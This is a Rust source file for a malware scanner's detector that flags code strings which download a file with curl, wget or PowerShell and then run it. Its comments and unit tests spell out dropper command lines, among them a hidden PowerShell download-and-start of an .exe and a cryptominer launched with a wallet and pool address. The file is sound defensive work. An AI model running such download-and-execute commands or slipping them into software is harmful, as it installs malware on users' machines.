//! The dropper written as command lines inside Python or JavaScript: a string that a process call runs
//! downloads to a file (`curl … -o dark.exe`, `curl.exe -OLJ https://…/astro.exe`, `wget -qO /tmp/x …`,
//! PowerShell's `Invoke-WebRequest … -OutFile $p`, `(New-Object Net.WebClient).DownloadFile(u, p)`), and a
//! command that follows it, in the same string or in the next call, starts that file (`Start-Process $p`,
//! `subprocess.Popen(['C:/dark.exe'])`, `os.system('astro.exe -w …')`).
//!
//! RCE045 follows downloads made by library calls (requests, urllib) and the shell detector RCE050 reads
//! shell files; a command line carried in a code string is neither. The file is named by its last path
//! component, an f-string placeholder (`{output_file}`) or a PowerShell variable (`$savePath`), and the
//! run must name it as the program, after launchers (`start`, `cmd /c`, `Start-Process -FilePath`,
//! interpreters). A download that is only unpacked, hashed or opened by another program is not reported,
//! nor is `chmod +x` alone.

use super::write_run::runs_as_program;
use super::write_run::{calls, runs_program, Call, Key};
use super::FileDetector;
use crate::ascii_classes::ascii_regex;
use crate::matchers::{Hit, HitDetail};
use crate::segment::Segment;
use regex::Regex;
use std::sync::LazyLock;

pub(crate) static COMMAND_DOWNLOAD_RUN: FileDetector = FileDetector {
    literals: &["curl", "wget", "OutFile", "DownloadFile", "outfile"],
    run: report_command_droppers,
};

/// How far after a download the command that runs it may sit.
const WINDOW: usize = 1024;
/// Downloads examined per segment.
const MAX_DOWNLOADS: usize = 64;
/// Longer segments are bundles.
const MAX_SEGMENT_BYTES: usize = 512 * 1024;

// Constant patterns (their tests compile them): `expect` never sees scanned data.
#[allow(clippy::expect_used)]
static DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(concat!(
        r#"(?i)\b(?:curl|wget)(?:\.exe)?(?:\s[^\n;&|]{0,400}?)?\s(?:--output(?:-document)?|-[A-Za-z]*[oO][A-Za-z]*)(?:\s+|=)"#,
        r#"(["'][^"'\n]{1,300}["']|[^\s"';&|)\]]+)"#,
        r#"|-OutFile\s+(\([^\n;]{1,300}?\)\)?|["'][^"'\n]{1,300}["']|[^\s"';&|)]+)"#,
        r#"|\.DownloadFile\s*\(\s*[^,\n]{1,300},\s*([^)\n]{1,300})\)"#,
    ))
    .expect("command download pattern")
});
/// What leads a command piece: an assignment, the call that runs it (on a module required in place,
/// `require("child_process").execSync(`, as the evaluator writes what it resolved), its opening bracket and
/// quote.
#[allow(clippy::expect_used)]
static LEAD: LazyLock<Regex> = LazyLock::new(|| {
    ascii_regex(r#"^\s*(?:[\w.$]+\s*=\s*)?(?:require\s*\(\s*["'][\w./:@-]{1,64}["']\s*\)\s*\.\s*)?(?:[\w.]+\s*\(\s*)*[\[(]?\s*[rbfuRBFU]{0,2}["'`]?"#)
        .expect("lead pattern")
});
#[allow(clippy::expect_used)]
static PLACEHOLDER: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(r"\{\s*([A-Za-z_]\w*)").expect("placeholder pattern"));
#[allow(clippy::expect_used)]
static PS_VARIABLE: LazyLock<Regex> =
    LazyLock::new(|| ascii_regex(r"\$([A-Za-z_]\w*)\b(?:[^:]|$)").expect("variable pattern"));

/// How the downloaded file is named in the output word: placeholders, PowerShell variables, and the last
/// path component (the URL's, for `curl -O URL`).
fn keys_of(output: &str) -> Vec<Key> {
    let mut keys: Vec<Key> = PLACEHOLDER
        .captures_iter(output)
        .map(|c| Key::Name(c[1].to_string()))
        .collect();
    for c in PS_VARIABLE.captures_iter(output) {
        if !c[1].eq_ignore_ascii_case("env") {
            keys.push(Key::Name(format!("${}", &c[1])));
        }
    }
    let plain = output.split(['?', '#']).next().unwrap_or(output);
    let last = plain
        .rsplit(['/', '\\', '\'', '"', ' ', '(', ')', ',', '{', '}', '$', ':'])
        .find(|part| part.chars().any(|c| c.is_ascii_alphanumeric()))
        .unwrap_or("");
    if last.len() >= 4 && last.contains('.') {
        keys.push(Key::File(last.to_ascii_lowercase()));
    }
    keys
}

fn report_command_droppers(segment: &Segment, text: &str, keep: &mut dyn FnMut(Hit) -> bool) {
    let body = segment.text(text);
    if body.len() > MAX_SEGMENT_BYTES {
        return;
    }
    // A command line only runs when the code hands it to a process.
    let calls = calls(body);
    if !calls.iter().any(|c| runs_program(&c.name)) {
        return;
    }
    for found in DOWNLOAD.captures_iter(body).take(MAX_DOWNLOADS) {
        let (Some(whole), Some(output)) = (
            found.get(0),
            found
                .get(1)
                .or_else(|| found.get(2))
                .or_else(|| found.get(3)),
        ) else {
            continue;
        };
        if only_shown_to_a_person(body, &calls, whole.start()) {
            continue;
        }
        let keys = keys_of(output.as_str());
        if keys.is_empty() {
            continue;
        }
        let mut to = (output.end() + WINDOW).min(body.len());
        while !body.is_char_boundary(to) {
            to -= 1;
        }
        let mut at = output.end();
        for piece in body[output.end()..to].split_inclusive([';', '&', '|', '\n']) {
            let start = at;
            at += piece.len();
            let command = piece.trim_end_matches([';', '&', '|', '\n']);
            let lead = LEAD.find(command).map_or(0, |m| m.end());
            let command = &command[lead..];
            let first = command.split_whitespace().next().unwrap_or("");
            if command.trim().is_empty() || first.eq_ignore_ascii_case("chmod") {
                continue;
            }
            let Some(key) = keys.iter().find(|k| runs_as_program(command, k, false)) else {
                continue;
            };
            let named = match key {
                Key::File(file) => file.clone(),
                Key::Name(name) => format!("the path in `{name}`"),
            };
            let hit = Hit {
                start: segment.start + start + lead,
                end: segment.start + start + lead + command.len(),
                detail: Some(Box::new(HitDetail {
                    message: format!(
                        "a command line downloads {named} and a following command starts it"
                    ),
                    related: vec![(segment.start + whole.start(), "the download".to_string())],
                })),
            };
            if !keep(hit) {
                return;
            }
            break;
        }
    }
}

/// Calls that show text to a person: printing, logging, an error raised with a message.
fn shows_text(name: &str) -> bool {
    let last = name.rsplit('.').next().unwrap_or(name);
    matches!(
        last,
        "print"
            | "echo"
            | "secho"
            | "log"
            | "info"
            | "warn"
            | "warning"
            | "error"
            | "debug"
            | "_say"
            | "say"
    ) || matches!(name, "sys.stdout.write" | "sys.stderr.write")
        || last.ends_with("Error")
        || last.ends_with("Exception")
}

fn inside(call: &Call, at: usize) -> bool {
    call.args_start <= at && at < call.end
}

/// A command line the code only prints (a reinstall hint, a "run this to fix it" message): it sits in a
/// message call's arguments, or in a name whose every use is in one. The innermost call decides, so
/// `print(subprocess.check_output("curl …"))` still runs.
fn only_shown_to_a_person(body: &str, calls: &[Call], at: usize) -> bool {
    let innermost = |at: usize| {
        calls
            .iter()
            .filter(|c| inside(c, at))
            .max_by_key(|c| c.args_start)
    };
    if let Some(call) = innermost(at) {
        return shows_text(&call.name);
    }
    let Some(name) = assigned_name(body, at) else {
        return false;
    };
    let mut uses = word_positions(body, name).filter(|&p| !is_assignment_at(body, p, name));
    let mut any = false;
    let all_shown = uses.all(|p| {
        any = true;
        innermost(p).is_some_and(|c| shows_text(&c.name))
    });
    any && all_shown
}

/// The name a statement assigns when the text at `at` is (part of) its value: `CMD = (` … `"curl …"` …
/// `)`, `const cmd = "curl …"`. Looks at most a few lines up, across string continuations.
fn assigned_name(body: &str, at: usize) -> Option<&str> {
    let mut line_start = body[..at].rfind('\n').map_or(0, |i| i + 1);
    for _ in 0..6 {
        let line = &body[line_start..];
        let line = &line[..line.find('\n').unwrap_or(line.len())];
        let trimmed = line.trim_start();
        let unkeyworded = ["const ", "let ", "var "]
            .iter()
            .find_map(|k| trimmed.strip_prefix(k))
            .unwrap_or(trimmed);
        let ident_len = unkeyworded
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == '$'))
            .unwrap_or(unkeyworded.len());
        let rest = unkeyworded[ident_len..].trim_start();
        if ident_len > 0 && rest.starts_with('=') && !rest.starts_with("==") {
            return Some(&unkeyworded[..ident_len]);
        }
        // Only a continued value (a string, a bracket, a `+`) is followed further up.
        let string_prefixed =
            trimmed.starts_with(['f', 'r', 'b', 'u']) && trimmed[1..].starts_with(['"', '\'']);
        let continues = trimmed.starts_with(['"', '\'', '`', '(', '+'])
            || string_prefixed
            || body[..line_start.saturating_sub(1)]
                .trim_end()
                .ends_with(['(', '+', '\\', ',', '=']);
        if line_start == 0 || !continues {
            return None;
        }
        line_start = body[..line_start - 1].rfind('\n').map_or(0, |i| i + 1);
    }
    None
}

fn word_positions<'a>(body: &'a str, name: &'a str) -> impl Iterator<Item = usize> + 'a {
    let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_' || c == '$';
    body.match_indices(name).map(|(p, _)| p).filter(move |&p| {
        let before = body[..p].chars().next_back();
        let after = body[p + name.len()..].chars().next();
        !before.is_some_and(is_word) && !after.is_some_and(is_word)
    })
}

/// Whether the word at `p` is the target of an assignment (`name =`, not `name ==`).
fn is_assignment_at(body: &str, p: usize, name: &str) -> bool {
    let rest = body[p + name.len()..].trim_start_matches([' ', '\t']);
    rest.starts_with('=') && !rest.starts_with("==")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::segment::segment_file;
    use skill_scan_model::Language;

    fn fired(text: &str, path: &str) -> Vec<String> {
        let mut out = Vec::new();
        for segment in segment_file(text, Language::Python, path) {
            (COMMAND_DOWNLOAD_RUN.run)(&segment, text, &mut |hit| {
                out.push(hit.detail.map(|d| d.message).unwrap_or_default());
                true
            });
        }
        out
    }

    #[test]
    fn a_curl_download_started_by_the_next_call_fires() {
        let text = "import subprocess\nsubprocess.Popen(['cd C:/ && curl https://files.example.invalid/tool.exe -o tool.exe'], shell=True)\nsubprocess.Popen(['C:/tool.exe'], shell=True)\n";
        assert_eq!(fired(text, "pkg/__init__.py").len(), 1);
        let remote_name = "import os\nos.system('\"curl.exe -OLJ https://files.example.invalid/x/miner.exe\"')\nos.system('\"miner.exe -w WALLET -r 203.0.113.5:10100\"')\n";
        assert_eq!(fired(remote_name, "pkg/main.py").len(), 1);
    }

    #[test]
    fn calls_on_a_module_required_in_place_are_read_as_process_calls() {
        // How the evaluator writes `steps.forEach(cp.execSync)` over download, chmod and run steps.
        let rendered = "require(\"child_process\").execSync(\"curl -s -o /tmp/.tool https://files.example.invalid/t\")\nrequire(\"child_process\").execSync(\"chmod +x /tmp/.tool\")\nrequire(\"child_process\").execSync(\"/tmp/.tool\")\n";
        let fire = |text: &str| {
            let mut n = 0;
            for segment in segment_file(text, Language::Javascript, "setup.js") {
                (COMMAND_DOWNLOAD_RUN.run)(&segment, text, &mut |_| {
                    n += 1;
                    true
                });
            }
            n
        };
        assert_eq!(fire(rendered), 1);
        let kept = "require(\"child_process\").execSync(\"curl -s -o /tmp/.tool https://files.example.invalid/t\")\nrequire(\"child_process\").execSync(\"chmod +x /tmp/.tool\")\n";
        assert_eq!(fire(kept), 0);
    }

    #[test]
    fn powershell_downloads_started_by_variable_or_placeholder_fire() {
        let variable = "import subprocess\nCMD = ('$p=\"$env:ProgramData\\\\svc.exe\"; '\n       'Invoke-WebRequest -Uri $u -OutFile $p -UseBasicParsing; '\n       'Start-Process $p -WindowStyle Hidden')\nsubprocess.Popen(['powershell', '-Command', CMD])\n";
        assert_eq!(fired(variable, "src/runner.py").len(), 1);
        let placeholder = "import os, subprocess\nout = os.path.join(os.getcwd(), 'lines.exe')\nget = f\"powershell -Command \\\"Invoke-WebRequest -Uri 'https://files.example.invalid/l.exe' -OutFile '{out}'\\\"\"\nsubprocess.run(get, shell=True)\nstart = f\"powershell -Command \\\"Start-Process '{out}'\\\"\"\nsubprocess.run(start, shell=True)\n";
        assert_eq!(fired(placeholder, "setup.py").len(), 1);
        let combined = "import subprocess\nsubprocess.run(['powershell', '-Command', \"Invoke-WebRequest -Uri 'https://files.example.invalid/w.exe' -OutFile ([System.IO.Path]::Combine($env:TEMP, 'w.exe')); Start-Process -FilePath ([System.IO.Path]::Combine($env:TEMP, 'w.exe'))\"])\n";
        assert_eq!(fired(combined, "pkg/mod.py").len(), 1);
    }

    #[test]
    fn downloads_unpacked_opened_or_only_made_executable_are_quiet() {
        let unpacked = "import os\nos.system('curl -sL https://files.example.invalid/data.zip -o data.zip && unzip data.zip -d data')\n";
        assert!(fired(unpacked, "tools/fetch_data.py").is_empty());
        let chmod = "import subprocess\nsubprocess.run('wget -qO /tmp/tool.bin https://files.example.invalid/t && chmod +x /tmp/tool.bin', shell=True)\n";
        assert!(fired(chmod, "tools/get.py").is_empty());
        let docs = "import subprocess\nsubprocess.run(['curl', '-o', 'report.pdf', URL])\nsubprocess.run(['xdg-open', 'report.pdf'])\n";
        assert!(fired(docs, "tools/report.py").is_empty());
        // Text about a download with no process call in the module runs nothing.
        let help =
            "HELP = 'curl https://files.example.invalid/t.sh -o t.sh; sh t.sh'\nprint(HELP)\n";
        assert!(fired(help, "pkg/help.py").is_empty());
    }

    #[test]
    fn a_command_line_only_printed_is_quiet_even_beside_process_calls() {
        let hint = "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list'])\nreinstall = (\n    \"curl -fsSL https://tool.example.invalid/install.cmd -o install.cmd && install.cmd\"\n    if sys.platform.startswith('win')\n    else 'curl -fsSL https://tool.example.invalid/install.sh | bash'\n)\nprint(f'To reinstall: {reinstall}')\n";
        assert!(fired(hint, "pkg/cli.py").is_empty());
        let raised = "import subprocess\nsubprocess.run(['git', 'status'])\nraise RuntimeError('fetch it: curl -o tool.exe https://tool.example.invalid/t && tool.exe')\n";
        assert!(fired(raised, "pkg/cli.py").is_empty());
        // The same line handed to a process as well as printed still runs.
        let both = "import subprocess\ncmd = 'curl -fsSL https://tool.example.invalid/i.cmd -o i.cmd && i.cmd'\nprint(cmd)\nsubprocess.run(cmd, shell=True)\n";
        assert_eq!(fired(both, "pkg/cli.py").len(), 1);
        let nested = "import subprocess\nprint(subprocess.check_output('curl -o a.exe https://tool.example.invalid/a && a.exe', shell=True))\n";
        assert_eq!(fired(nested, "pkg/cli.py").len(), 1);
    }
}
